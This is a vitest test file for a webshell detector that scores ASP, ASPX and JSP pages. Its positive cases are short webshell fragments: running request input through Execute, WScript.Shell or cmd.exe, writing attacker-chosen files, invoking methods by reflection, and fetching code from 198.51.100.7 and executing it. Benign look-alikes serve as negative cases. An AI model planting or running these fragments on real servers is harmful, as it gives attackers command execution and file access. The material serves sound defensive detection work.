import { describe, expect, it } from 'vitest';
import type { Language } from '../../src/webshell/language.js';
import { lexicalSignals } from '../../src/webshell/lexical/rules.js';
import { DETECTED, score } from '../../src/webshell/score.js';

type Page = Extract<Language, 'asp' | 'aspx' | 'jsp'>;

/** Short pages are judged by less. */
const MARKUP = '<p>What the shop sells.</p>\n'.repeat(60);

const scoreOf = (language: Page, source: string) => score(lexicalSignals(language, source)).score;

describe('the data flow of pages', () => {
  it.each<[Page, string, string]>([
    ['asp', 'evaluates it', '<% a = Request("x")\nb = a & ""\nExecute b %>'],
    [
      'asp',
      'passes it to a function that evaluates it',
      '<% Sub Go(code)\nExecute code\nEnd Sub\nGo Request.Form("x") %>',
    ],
    [
      'asp',
      'runs it',
      '<% c = Request("c")\nSet s = CreateObject("WScript.Shell")\nSet r = s.Exec("%comspec% /c " & c) %>',
    ],
    [
      'asp',
      'writes it to any path of the host',
      '<% p = Request("p")\nSet f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p)\nf.Write Request("t") %>',
    ],
    [
      'asp',
      'writes it into a page',
      '<% Set s = CreateObject("ADODB.Stream")\ns.Open\ns.WriteText Request("t")\ns.SaveToFile Server.MapPath("news.asp"), 2 %>',
    ],
    [
      'asp',
      'opens folders and files by it',
      '<% p = Request("p")\nFor Each f In fso.GetFolder(p).Files\nNext\nResponse.Write fso.OpenTextFile(p, 1).ReadAll %>',
    ],
    [
      'asp',
      'sends it to a database of its choice',
      '<% Set conn = CreateObject("ADODB.Connection")\nconn.Open Request("dsn")\nSet rs = conn.Execute(Request("q")) %>',
    ],
    [
      'asp',
      'evaluates what it fetches',
      '<% Function Load(u)\nh.Open "GET", u, False\nh.Send\nLoad = h.responseText\nEnd Function\ncode = Load("http://198.51.100.7/a")\nExecute code %>',
    ],
    [
      'asp',
      'passes it on to a service of the host',
      '<% h.Open "POST", "http://127.0.0.1:" & port & "/admin", False\nh.Send "SITE EXEC " & Request("c") %>',
    ],
    [
      'aspx',
      'starts a process with it',
      '<%@ Page Language="C#" %><script runat="server">void Go() { var a = field.Text; Process.Start("cmd.exe", a); }</script>',
    ],
    [
      'aspx',
      'decrypts it and calls what comes out',
      '<% byte[] b = Request.BinaryRead(9); b = d.TransformFinalBlock(b, 0, 9); Type.GetType(n).GetMethod(m).Invoke(null, new object[] { b }); %>',
    ],
    [
      'jsp',
      'writes it to any path',
      '<% String p = request.getParameter("a"); PrintWriter w = new PrintWriter(new File(p)); w.println(request.getParameter("b")); %>',
    ],
    [
      'jsp',
      'lists folders by it',
      '<% File f = new File(request.getParameter("p")); for (File g : f.listFiles()) {} new FileInputStream(f); %>',
    ],
    [
      'jsp',
      'chooses the database by it',
      '<% Connection c = DriverManager.getConnection(request.getParameter("u")); c.createStatement().executeQuery(request.getParameter("q")); %>',
    ],
    [
      'jsp',
      'gives it to a method without a name',
      '<% Class c = Class.forName(decode("x")); c.getMethod(decode("y"), String.class).invoke(null, request.getParameter("c")); %>',
    ],
    [
      'jsp',
      'runs it as a style sheet',
      '<% String s = request.getParameter("s"); factory.newTransformer(new StreamSource(new StringReader(s))); %>',
    ],
  ])('%s: find a page that %s', (language, _, source) => {
    expect(scoreOf(language, source)).toBeGreaterThanOrEqual(DETECTED);
  });

  it.each<[Page, string, string]>([
    ['asp', 'compares it', '<% If a = Request("x") Then b = 1\nExecute a %>'],
    [
      'asp',
      'runs a query by a function of its own name',
      '<% Set rs = Execute("select * from t where id=" & CLng(Request("id"))) %>',
    ],
    [
      'asp',
      'keeps it in a folder of its own',
      '<% n = Request("n")\nSet f = fso.CreateTextFile(Server.MapPath("upload/" & n))\nf.Write Request("t") %>',
    ],
    [
      'asp',
      'is part of an application',
      '<!--#include file="admin.asp"--><% p = Request("p")\nSet f = fso.CreateTextFile(p)\nf.Write Request("t") %>',
    ],
    [
      'asp',
      'shows what it fetches',
      '<% h.Open "GET", "http://198.51.100.7/", False\nt = h.responseText\nResponse.Write t %>',
    ],
    ['asp', 'has the words in its markup', '<input value="<%=Request("x")%>"><p>execute value</p>'],
    [
      'aspx',
      'starts one program',
      '<% var n = Request["n"]; Process.Start("notify.exe", "restart"); Response.Write(n); %>',
    ],
    [
      'jsp',
      'writes it into a folder of its own',
      '<% String n = "/srv/app/notes/" + request.getParameter("n"); FileWriter w = new FileWriter(n); w.write(request.getParameter("t")); %>',
    ],
    [
      'jsp',
      'asks its own database',
      '<% Connection c = pool.getConnection(); PreparedStatement s = c.prepareStatement("select 1"); s.setString(1, request.getParameter("q")); %>',
    ],
    [
      'jsp',
      'calls a method by its name',
      '<% Object o = Class.forName("com.example.Format").getMethod("apply", String.class).invoke(null, request.getParameter("t")); %>',
    ],
  ])('%s: leave a page alone that %s', (language, _, source) => {
    expect(scoreOf(language, `${source}${MARKUP}`)).toBeLessThan(DETECTED);
  });

  it('take time in proportion to the page', () => {
    const pieces = [
      'a = b\n',
      'f(x, ',
      'sub f(a, b)\n',
      'execute a\n',
      '<% Request("x") ',
      'Array("a", "b", ',
      '&#65;<jsp:',
    ];
    for (const piece of pieces) {
      const source = `<% r = Request("x") %>${piece.repeat(200_000 / piece.length)}`;
      const began = process.cpuUsage();
      for (const language of ['jsp', 'asp'] as const) lexicalSignals(language, source);
      // Quadratic would be minutes.
      expect(process.cpuUsage(began).user).toBeLessThan(10_000_000);
    }
  });
});
